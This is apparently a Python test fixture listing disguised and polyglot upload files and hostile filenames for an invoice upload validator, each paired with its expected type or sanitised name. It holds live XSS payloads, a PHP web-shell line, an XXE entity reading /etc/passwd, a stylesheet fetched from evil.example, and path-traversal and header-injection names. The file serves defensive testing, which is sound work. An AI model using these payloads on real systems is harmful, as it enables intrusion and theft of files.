"""Files that pretend: made up on the spot, each with the kind that it is taken for, or none where it is refused."""

import struct
import zlib
from io import BytesIO
from zipfile import ZipFile

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
UBL = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
CII = "urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(more=b""):
    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\0"))
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"tEXt", b"Comment\0" + more) + chunk(b"IEND", b"")


def archive(name, text):
    file = BytesIO()
    with ZipFile(file, "w") as written:
        written.writestr(name, text)
    return file.getvalue()


def invoice(inside="", root="Invoice", namespace=UBL, head=""):
    return f'<?xml version="1.0"?>{head}<{root} xmlns="{namespace}"><ID>1</ID>{inside}</{root}>'.encode()


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00"
TIFF = b"II*\x00\x08\x00\x00\x00\x00\x00"
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"
XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'

# The name that it is sent under, its bytes, and what it is taken for.
FILES = [
    ("bill.pdf", PDF, "application/pdf"),
    ("html-in.pdf", PDF + HTML, "application/pdf"),
    ("bill.html", PDF + HTML + b" ", "application/pdf"),
    ("script.pdf", PDF.replace(b"endobj", b"/OpenAction << /JS (app.alert(1)) >> endobj"), "application/pdf"),
    ("zip-behind.pdf", PDF + archive("a.html", HTML), "application/pdf"),
    ("page-before.pdf", HTML + PDF, None),
    ("pdf.svg", b" " + PDF, "text/plain"),
    ("page.pdf", HTML, None),
    ("page.txt", b"Dear all,\n" + HTML, None),
    ("page.htm", b"\xef\xbb\xbf \n\t" + HTML, None),
    ("fragment.txt", b"Paid. <IMG SRC=x onerror=alert(1)>", None),
    ("spaced.txt", b"Paid. < script >alert(1)</ script >", None),
    ("link.txt", b"JaVaScRiPt:alert(1)", None),
    ("utf16.txt", HTML.decode().encode("utf-16"), None),
    ("utf7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/plain"),
    ("drawing.svg", SVG, None),
    ("drawing.png", SVG, None),
    ("drawing.xml", b'<?xml version="1.0"?>' + SVG, None),
    ("packed.svgz", zlib.compress(SVG), None),
    ("picture.png", png(), "image/png"),
    ("picture.html", png(HTML), "image/png"),
    ("comment.jpg", JPEG[:20] + b"\xff\xfe\x00\x40" + SCRIPT + JPEG[20:], "image/jpeg"),
    ("picture.php.jpg", JPEG + b"<?php system($_GET[0]); ?>", "image/jpeg"),
    ("script.gif", b"GIF89a/*" + GIF[8:] + b"*/=1;alert(1)//", "image/gif"),
    ("page.gif", GIF + HTML, "image/gif"),
    ("picture.webp", WEBP, "image/webp"),
    ("film.webp", b"RIFF\x1a\x00\x00\x00AVI LIST" + HTML, None),
    ("scan.tif", TIFF, "image/tiff"),
    ("phone.heic", HEIC, "image/heic"),
    ("film.heic", b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2", None),
    ("invoice.xml", invoice(), "application/xml"),
    ("credit.xml", invoice(root="CrossIndustryInvoice", namespace=CII), "application/xml"),
    ("page-in.xml", invoice(XHTML), None),
    ("drawing-in.xml", invoice(SVG.decode()), None),
    (
        "styled.xml",
        invoice(head='<?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?>'),
        "application/xml",
    ),
    ("entity.xml", invoice("&e;", head='<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), None),
    ("feed.xml", b'<?xml version="1.0"?><rss><channel/></rss>', None),
    ("deep.xml", invoice("<a>" * 200 + "</a>" * 200), None),
    ("half.xml", invoice()[:-4], None),
    ("macro.xlsm", archive("xl/vbaProject.bin", b"macro"), None),
    ("program.exe", b"MZ\x90\x00" + bytes(64), None),
    ("page.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML, None),
    ("notes.txt", "Café, 2.50 EUR\n東京\n".encode(), "text/plain"),
    ("latin.txt", "Café".encode("latin-1"), None),
    ("nothing-seen.txt", b" \n\t ", None),
    ("terminal.txt", b"\x1b]0;title\x07\x1b[2J", None),
]
# The name that a file is sent under, and the one that it is saved under; it is always a PDF.
NAMES = [
    ("../../etc/passwd", "passwd.pdf"),
    ("..\\..\\windows\\system32\\bill.pdf", "bill.pdf"),
    ("/etc/cron.d/bill.pdf", "bill.pdf"),
    ("..", "document.pdf"),
    (".htaccess", "htaccess.pdf"),
    ("bill\u202efdp.exe", "billfdp.exe.pdf"),
    ("bi\u200bll\ufeff\u2066.pdf", "bill.pdf"),
    ("bill\r\nSet-Cookie: a=b.pdf", "billSet-Cookie_ a=b.pdf"),
    ("bill\x00.pdf", "bill.pdf"),
    ("bill.pdf\x1b[2J.html", "bill.pdf[2J.html.pdf"),
    ('bill".html; filename="x', "bill_.html; filename=_x.pdf"),
    ("<script>alert(1)</script>.pdf", "script_.pdf"),
    ("con.pdf", "_con.pdf"),
    ("a:stream.pdf", "a_stream.pdf"),
    ("bill.PDF", "bill.PDF"),
    ("bill.html", "bill.html.pdf"),
    ("Rechnung M\u00e4rz \u6771\u4eac.pdf", "Rechnung M\u00e4rz \u6771\u4eac.pdf"),
    ("x" * 400 + ".pdf", "x" * 120 + ".pdf"),
]
